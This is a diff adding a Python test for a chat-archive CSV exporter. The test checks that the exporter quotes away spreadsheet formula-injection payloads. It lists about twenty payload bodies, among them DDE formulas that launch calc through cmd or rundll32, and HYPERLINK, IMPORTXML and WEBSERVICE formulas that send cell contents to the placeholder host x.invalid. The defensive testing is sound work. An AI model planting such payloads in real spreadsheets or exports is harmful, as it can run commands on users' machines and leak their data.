@@ -78,3 +78,42 @@ def test_cancel_mid_way_leaves_no_csv(vault, tmp_path):
     (tmp_path / "keep" / "mine.txt").write_text("x")
     assert export_csv(vault, Selection(), tmp_path / "keep", CancelMidWay(), batch=5).cancelled
     assert [p.name for p in (tmp_path / "keep").iterdir()] == ["mine.txt"]      # the user's folder stays as it was
+
+
+def _payloads() -> list[str]:
+    """Formula payloads as OWASP lists them, in many spellings: 6 triggers × 20 bodies = 120."""
+    bodies = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.invalid/?\"&A1,\"Error\")", "SUM(1,1)*cmd|'/C calc'!A0",
+              "IMPORTXML(CONCAT(\"http://x.invalid/?v=\",A1),\"//a\")", "2+5+cmd|' /C calc'!A0", "A1", "1", "@SUM(1)",
+              "DDE(\"cmd\";\"/C calc\";\"!A0\")", "WEBSERVICE(\"http://x.invalid\")", "\"=1\"", "1\n2", "你好",
+              "😀=1", "=1", "-1", "+1", "\t=1", "rundll32|'URL.dll,OpenURL calc'!A"]
+    return [t + b for t in ("=", "+", "-", "@", "\t", "\r") for b in bodies]
+
+
+def test_every_formula_payload_is_neutralised_wherever_it_sits(vault, tmp_path):
+    import json as _json
+
+    payloads = _payloads()
+    conn = vault.connect()
+    conn.execute("BEGIN")
+    conn.execute("INSERT INTO sources(id, app, account, created_at) VALUES (1, 'whatsapp', '', 0)")
+    conn.execute("INSERT INTO conversations(id, source_id, source_key, title, created_at) VALUES (1, 1, 'c', ?, 0)",
+                 ("=HYPERLINK(\"http://x.invalid\")",))
+    for i, p in enumerate(payloads):
+        conn.execute("INSERT INTO participants(id, source_id, source_key, display_name) VALUES (?, 1, ?, ?)",
+                     (i + 1, f"@p{i}", p))
+        conn.execute("INSERT INTO messages(id, conversation_id, source_key, ts, sender_id, kind, text, extra, "
+                     "forwarded_from) VALUES (?, 1, ?, ?, ?, ?, ?, ?, ?)",
+                     (i + 1, p, 1_600_000_000_000 + i, i + 1, "file" if i % 2 else "text", p,
+                      _json.dumps({"file_name": p}), p))
+        if i % 2:
+            conn.execute("INSERT INTO attachments(message_id, ordinal, status, original_name) VALUES (?, 0, 'missing', ?)",
+                         (i + 1, p))
+    conn.execute("COMMIT")
+    export_csv(vault, Selection(), tmp_path / "x", JobContext())
+    rows = _read(tmp_path / "x" / FILE_NAME)
+    assert len(rows) == len(payloads) >= 100
+    cells = [v for r in rows for v in r.values() if v]
+    dangerous = [v for v in cells if v[0] in "=+-@\t\r"]
+    assert not dangerous, dangerous[:5]
+    for r, p in zip(rows, payloads, strict=True):      # the text is all there, behind one quote
+        assert r["text"] == "'" + p and r["sender"] == "'" + p and r["forwarded_from"] == "'" + p
